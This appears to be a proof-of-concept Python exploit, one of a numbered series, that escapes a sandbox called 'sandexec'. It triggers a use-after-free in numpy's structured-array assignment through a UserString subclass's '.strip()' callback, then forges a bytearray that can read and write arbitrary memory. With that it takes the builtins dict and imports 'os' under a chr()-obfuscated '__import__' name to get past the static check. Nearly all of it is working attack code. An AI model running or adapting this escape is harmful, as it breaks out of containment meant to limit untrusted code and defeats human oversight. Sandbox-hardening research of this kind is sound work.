# source: CPython 3.11 Lib/collections/__init__.py UserString.strip (returns self.__class__(...)); sandexec README, "The static check", conversion rule allowing '.strip(' calls; numpy 1.24 VOID_setitem reads row tuple items borrowed
# family: library method on the allowed-method list calls back into the script: UserString subclass's __init__ runs from '.strip()' inside __float__
# goal: same hole as attack12bv_026_userstring_strip_float.py, carried on: with the forged bytearray's read/write, put the builtins dict (read from a def's func_builtins) into a __slots__ field, then __import__ by a chr()-built name: imports 'this' (prints the Zen) and 'os' (uid shown)
import numpy as np
import pandas as pd
import collections

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class U(collections.UserString):
    def __init__(self, seq):
        super().__init__(seq)
        if len(hold) > 0 and len(keep) == 0:
            boom()


class A:
    def __init__(self, u):
        self.u = u

    def __float__(self):
        return float(self.u.strip())


lst = [(A(U("2")), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))


def rd(addr):
    return int.from_bytes(bytes(fake[addr:addr + 8]), "little")


def wr(addr, v):
    fake[addr:addr + 8] = q(v)


def where(x):
    return int(repr(x).split("at ")[1][:-1], 16)


class Box:
    __slots__ = ("v",)


def probe():
    return 0


box = Box()
box.v = None
fn = where(probe)
bdict = rd(fn + 24)
wr(bdict, rd(bdict) + 1)
wr(where(box) + 16, bdict)
table = box.v
name = "".join(chr(c) for c in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
imp = table[name]
print("got", imp)
mod = imp("".join(chr(c) for c in (116, 104, 105, 115)))
osm = imp("".join(chr(c) for c in (111, 115)))
print("module os:", osm, "uid", osm.getuid())
